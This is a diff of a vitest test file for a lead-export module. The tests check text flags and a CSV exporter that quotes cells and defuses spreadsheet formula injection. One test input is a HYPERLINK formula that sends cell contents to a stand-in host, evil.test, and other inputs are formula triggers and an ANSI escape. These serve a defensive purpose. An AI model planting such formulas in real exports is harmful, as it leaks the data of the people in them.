@@ -1,5 +1,5 @@
-import { expect, test } from 'vitest';
-import { leadJson, leadLine } from '../../src/server/leads-text.ts';
+import { describe, expect, test } from 'vitest';
+import { csvHead, leadCsv, leadJson, leadLine } from '../../src/server/leads-text.ts';
 
 const lead = {
   id: '0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10',
@@ -23,4 +23,42 @@ test('as JSON it is whole, and safe to print too', () => {
   const text = leadJson(lead);
   expect(JSON.parse(text)).toEqual(lead);
   expect(text).not.toMatch(/\p{Cc}/u);
+});
+
+test.each([
+  ['unverified', /  \[not checked\]$/],
+  ['lowScore', /  \[may be a bot\]$/],
+  ['flood', /  \[one of very many\]$/],
+] as const)('a lead that is %s says so', (verified, expected) => {
+  expect(leadLine({ ...lead, verified })).toMatch(expected);
+});
+
+describe('a table for a spreadsheet', () => {
+  test('has a head by which UTF-8 is known, and a line of quoted cells for each lead', () => {
+    expect(csvHead).toBe(
+      '\uFEFF"receivedAt","name","email","country","message","verified","sentAt","id"\r\n',
+    );
+    expect(leadCsv({ ...lead, message: 'He said "yes",\nthen left\u001b[2J' })).toBe(
+      '"2030-01-02T03:04:05.678Z","Amina","a@example.org","الإمارات","He said ""yes"",\nthen left\\u001b[2J","verified","","0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10"\r\n',
+    );
+  });
+
+  test.each([
+    '=1+1',
+    '+971 4 000',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '＝1',
+    '=HYPERLINK("http://evil.test/?"&A1)',
+  ])('keeps %j from being a formula', (message) => {
+    expect(leadCsv({ ...lead, message })).toContain(`,"'${message.replaceAll('"', '""')}",`);
+  });
+
+  test.each(['1-1', 'a=b', "O'Hara", '50%'])('leaves %j alone', (message) => {
+    expect(leadCsv({ ...lead, message })).toContain(`,"${message}",`);
+  });
 });
